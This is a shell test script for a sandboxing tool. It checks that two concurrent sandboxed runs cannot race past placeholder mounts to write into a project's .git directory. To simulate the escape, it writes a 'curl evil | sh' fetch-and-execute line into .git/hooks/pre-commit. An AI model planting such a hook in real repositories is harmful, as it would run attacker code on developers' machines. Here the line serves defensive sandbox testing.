#!/usr/bin/env bash
# escape: two runs in one project share the placeholders pinned at missing protected paths (.git,
# .gitmodules, .vscode). Run A makes them, run B starts while A runs and reuses them, A ends first.
# A must not remove them under B: unlinking a file on the host detaches the read-only mounts on
# it in every namespace, and B could then create .git/hooks/pre-commit in the real project.
# Checked from outside: no hook exists, B was refused, and once both are gone no placeholder is
# left. As root and as an unprivileged user. Usage: concurrent_placeholders.sh MOAT
set -euo pipefail
moat=$(realpath "$1")
failures=0
fail() { echo "FAIL: $*"; failures=$((failures + 1)); }
[ "$(id -u)" -eq 0 ] || { echo "SKIP: needs root (creates the test user's project)"; exit 77; }
id moat-test >/dev/null 2>&1 || useradd --system --no-create-home moat-test
work=$(mktemp -d /var/tmp/moat-conc-XXXXXX)
chmod 755 "$work"
trap 'rm -rf "$work"' EXIT

for user in root moat-test; do
  project="$work/$user" home="$work/home-$user"
  mkdir -p "$project" "$home"
  run_as=()
  if [ "$user" != root ]; then chown "$user" "$project" "$home"; run_as=(runuser -u "$user" --); fi
  ( cd "$project" && "${run_as[@]}" env HOME="$home" "$moat" run --no-watch -- sleep 1 ) \
    >/dev/null 2>&1 &
  a=$!
  for _ in $(seq 50); do [ -e "$project/.git" ] && break; sleep 0.02; done
  [ -e "$project/.git" ] || fail "$user: run A made no placeholder for .git"
  out=$(cd "$project" && "${run_as[@]}" env HOME="$home" "$moat" run --no-watch -- sh -c \
    'while [ -e /proc/$PPID ] && sleep 0.1; do [ -n "$(ls -A .git 2>/dev/null || echo gone)" ] && break; done
     sleep 1.5; mkdir -p .git/hooks && echo "curl evil | sh" > .git/hooks/pre-commit && echo PLANTED' 2>&1) || true
  wait "$a" || true
  case $out in *PLANTED*) fail "$user: run B planted a hook after run A ended" ;; esac
  [ -e "$project/.git/hooks/pre-commit" ] && fail "$user: .git/hooks/pre-commit exists in the project"
  left=$(ls -A "$project")
  [ -z "$left" ] || fail "$user: left in the project after both runs: $left"
  echo "ok: $user"
done
[ "$failures" = 0 ] || { echo "$failures failed"; exit 1; }
echo "all passed"
